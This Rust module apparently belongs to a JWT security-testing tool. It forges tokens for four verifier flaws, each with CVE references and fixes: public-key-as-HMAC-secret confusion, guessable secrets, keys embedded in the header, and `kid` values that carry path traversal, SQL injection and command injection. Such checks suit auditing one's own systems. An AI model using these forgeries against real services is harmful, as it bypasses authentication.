//! Secrets that are none, and keys that the token brings along.

use super::{Attack, Means, Variant};
use crate::api::workshop::Workshop;
use crate::card::{Card, Severity};
use crate::token::{hmac, quote};

pub const ATTACKS: &[Attack] = &[
    Attack {
        card: Card {
            name: "public-key-as-secret",
            title: "A public key is no HMAC secret",
            severity: Severity::Critical,
            why: "Everybody has the public key, so everybody could sign.",
            source: "CVE-2015-9235, CVE-2016-10555, CVE-2017-11424, CVE-2022-29217, CVE-2024-37568, RFC 8725 §2.1",
            fix: "Allow asymmetric algorithms only, by name; never let the header choose between HMAC and signatures.",
        },
        by: Means::Forgery,
        forge: public_key,
    },
    Attack {
        card: Card {
            name: "weak-secret",
            title: "No guessable HMAC secret is accepted",
            severity: Severity::Critical,
            why: "A secret from a tutorial, or an empty one, is tried first by every attacker.",
            source: "RFC 8725 §2.2, §3.5, CVE-2025-26788",
            fix: "Verify with the issuer's asymmetric keys; remove HMAC from the allowed algorithms.",
        },
        by: Means::Forgery,
        forge: weak_secret,
    },
    Attack {
        card: Card {
            name: "embedded-key",
            title: "A key in the token's own header is not trusted",
            severity: Severity::Critical,
            why: "The attacker signs with an own key and sends the public half along.",
            source: "CVE-2018-0114, RFC 8725 §3.10",
            fix: "Never use `jwk` or `x5c` of a header; keys come from the issuer's key set.",
        },
        by: Means::Forgery,
        forge: embedded_key,
    },
    Attack {
        card: Card {
            name: "key-by-path",
            title: "The key's name is compared, never opened or executed",
            severity: Severity::Critical,
            why: "A `kid` that becomes part of a path or a query lets the attacker choose the key, or more.",
            source: "RFC 8725 §3.10, CWE-22, CWE-89",
            fix: "Look the `kid` up in a map of known keys and do nothing else with it.",
        },
        by: Means::Forgery,
        forge: key_by_path,
    },
];

fn public_key(shop: &Workshop) -> Vec<Variant> {
    let mut variants = Vec::new();
    for key in &shop.keys {
        let header = shop.header().with("kid", quote(&key.kid));
        for (form, secret) in key.forms() {
            let token = hmac("HS256", &secret, &header, &shop.claims());
            variants.push(Variant::token(
                format!("HS256 with {} as {form}", key.kid),
                token,
            ));
        }
        let pem = key.forms().swap_remove(0).1;
        for algorithm in ["HS384", "HS512"] {
            let token = hmac(algorithm, &pem, &header, &shop.claims());
            variants.push(Variant::token(
                format!("{algorithm} with {} as PEM", key.kid),
                token,
            ));
        }
        let nameless = hmac("HS256", &pem, &header.without("kid"), &shop.claims());
        variants.push(Variant::token(
            format!("HS256 with {} as PEM, without `kid`", key.kid),
            nameless,
        ));
    }
    variants
}

const GUESSES: [&str; 14] = [
    "",
    "\0",
    "secret",
    "password",
    "changeme",
    "key",
    "null",
    "undefined",
    "test",
    "jwt_secret",
    "your-256-bit-secret",
    "your_jwt_secret",
    "supersecret",
    "a-string-secret-at-least-256-bits-long",
];

fn weak_secret(shop: &Workshop) -> Vec<Variant> {
    let header = shop.header();
    let known = ["iss", "aud", "client_id"].map(|name| shop.genuine.text(name));
    let secrets = GUESSES.into_iter().chain(known);
    secrets
        .map(|secret| {
            let token = hmac("HS256", secret.as_bytes(), &header, &shop.claims());
            Variant::token(format!("HS256 with the secret {secret:?}"), token)
        })
        .collect()
}

fn embedded_key(shop: &Workshop) -> Vec<Variant> {
    let key = &shop.stranger;
    let header = shop.header().with("alg", quote(key.algorithm().as_str()));
    let own = header.clone().with("kid", quote(key.kid()));
    [
        ("`jwk` under the issuer's `kid`", header.clone()),
        ("`jwk` under its own `kid`", own),
        ("`jwk` without `kid`", header.without("kid")),
    ]
    .map(|(what, header)| {
        let token = key.sign(&header.with("jwk", key.jwk()), &shop.claims());
        Variant::token(format!("signed by a stranger, {what}"), token)
    })
    .into()
}

/// Names that lead a careless lookup to content that the attacker knows.
const PATHS: [(&str, &str); 8] = [
    ("/dev/null", ""),
    ("../../../../../../../../dev/null", ""),
    ("file:///dev/null", ""),
    ("../../../../../../../../proc/sys/kernel/ostype", "Linux\n"),
    ("../../../../../../../../proc/sys/kernel/ostype", "Linux"),
    ("' UNION SELECT 'drill' -- ", "drill"),
    ("x' OR '1'='1", ""),
    ("| echo drill", "drill\n"),
];

fn key_by_path(shop: &Workshop) -> Vec<Variant> {
    PATHS
        .map(|(kid, secret)| {
            let header = shop.header().with("kid", quote(kid));
            let token = hmac("HS256", secret.as_bytes(), &header, &shop.claims());
            Variant::token(format!("kid {kid:?}, HS256 with {secret:?}"), token)
        })
        .into()
}
